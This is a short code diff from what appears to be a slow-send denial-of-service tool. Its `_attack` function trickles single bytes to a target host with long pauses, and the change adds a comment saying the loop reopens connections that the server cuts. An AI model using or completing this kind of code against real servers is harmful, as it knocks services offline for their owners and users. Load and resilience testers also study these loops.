@@ -101,7 +101,7 @@ async def _attack(host: str, port: int, path: str, seconds: float) -> dict[str, 
                         await loop.sock_sendall(s, bytes([b]))
                         await asyncio.sleep(10)
             except OSError:
-                pass
+                pass  # the server cut this connection: the loop opens another
             finally:
                 s.close()
             stats["closed_by_server"] += time.monotonic() < end
